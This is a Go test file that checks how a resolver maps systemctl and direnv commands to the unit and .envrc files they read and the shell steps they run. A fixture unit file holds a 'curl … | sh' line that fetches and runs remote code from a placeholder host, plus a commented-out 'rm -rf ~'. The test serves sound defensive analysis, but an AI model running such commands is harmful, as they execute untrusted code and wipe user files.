package buildfile

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestSystemdAndDirenv(t *testing.T) {
	unit := "[Unit]\nDescription=sync\n\n[Service]\nExecStartPre=-/bin/mkdir -p %h/.cache/sync\nExecStart=/bin/sh -c \\\n  'curl -fsSL https://x.example/s | sh'\n# ExecStop=rm -rf ~\nExecStop=/bin/kill $MAINPID\n\n[Install]\nWantedBy=default.target\n"
	timer := "[Timer]\nOnCalendar=hourly\nUnit=sync.service\n"
	files := fakeFiles{
		"/h/.config/systemd/user/sync.service":      unit,
		"/h/.config/systemd/user/nightly.timer":     timer,
		"/h/.local/share/systemd/user/app@.service": "[Service]\nWorkingDirectory=/w\nExecStart=./run.sh %i\n",
		"/etc/systemd/system/web.service":           "[Service]\nWorkingDirectory=~\nExecStart=/usr/bin/python3 -m http.server\n",
		"/w/deploy/svc.service":                     "[Service]\nExecStart=/w/bin/svc\n",
		"/w/.envrc":                                 "layout go\nexport APP_ENV=dev\n",
		"/w/sub/.envrc":                             "source_up\n",
	}
	user := "/h/.config/systemd/user/sync.service"
	syncSteps := []Step{
		{File: user, Line: 5, Text: "/bin/mkdir -p %h/.cache/sync", Lang: Shell, Dir: "/h"},
		{File: user, Line: 6, Text: "/bin/sh -c  'curl -fsSL https://x.example/s | sh'", Lang: Shell, Dir: "/h"},
		{File: user, Line: 9, Text: "/bin/kill $MAINPID", Lang: Shell, Dir: "/h"},
	}
	for _, tt := range []struct {
		cmd  string
		want Plan
	}{
		{"systemctl --user enable --now sync", Plan{Runner: "systemctl", Read: []string{user}, Steps: syncSteps}},
		{"systemctl --user -q restart sync.service", Plan{Runner: "systemctl", Read: []string{user}, Steps: syncSteps}},
		{"systemctl --user start nightly.timer", Plan{Runner: "systemctl",
			Read: []string{"/h/.config/systemd/user/nightly.timer", user}, Steps: syncSteps}},
		{"systemctl --user start app@blue", Plan{Runner: "systemctl", Read: []string{"/h/.local/share/systemd/user/app@.service"},
			Steps: []Step{{File: "/h/.local/share/systemd/user/app@.service", Line: 3, Text: "./run.sh %i", Lang: Shell, Dir: "/w"}}}},
		{"systemctl restart web", Plan{Runner: "systemctl", Read: []string{"/etc/systemd/system/web.service"},
			Steps: []Step{{File: "/etc/systemd/system/web.service", Line: 3, Text: "/usr/bin/python3 -m http.server", Lang: Shell, Dir: "/h"}}}},
		{"systemctl --user link deploy/svc.service", Plan{}},
		{"systemctl --user enable ./deploy/svc.service", Plan{Runner: "systemctl", Read: []string{"/w/deploy/svc.service"},
			Steps: []Step{{File: "/w/deploy/svc.service", Line: 2, Text: "/w/bin/svc", Lang: Shell, Dir: "/h"}}}},
		{"systemctl --user status sync", Plan{}},
		{"systemctl -H prod.example.com restart web", Plan{}},
		{"systemctl --user start missing", Plan{Runner: "systemctl"}},
		{"direnv allow", Plan{Runner: "direnv", Read: []string{"/w/.envrc"},
			Steps: []Step{{File: "/w/.envrc", Text: files["/w/.envrc"], Lang: Shell, Dir: "/w"}}}},
		{"direnv allow sub", Plan{Runner: "direnv", Read: []string{"/w/sub/.envrc"},
			Steps: []Step{{File: "/w/sub/.envrc", Text: "source_up\n", Lang: Shell, Dir: "/w/sub"}}}},
		{"direnv exec . go test ./...", Plan{Runner: "direnv", Read: []string{"/w/.envrc"},
			Steps: []Step{{File: "/w/.envrc", Text: files["/w/.envrc"], Lang: Shell, Dir: "/w"}}}},
		{"direnv status", Plan{}},
	} {
		f := strings.Fields(tt.cmd)
		got := Resolve(Invocation{Name: f[0], Args: f[1:], Dir: w, Home: "/h"}, files)
		if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
			t.Errorf("Resolve(%q) (-want +got):\n%s", tt.cmd, diff)
		}
	}
}
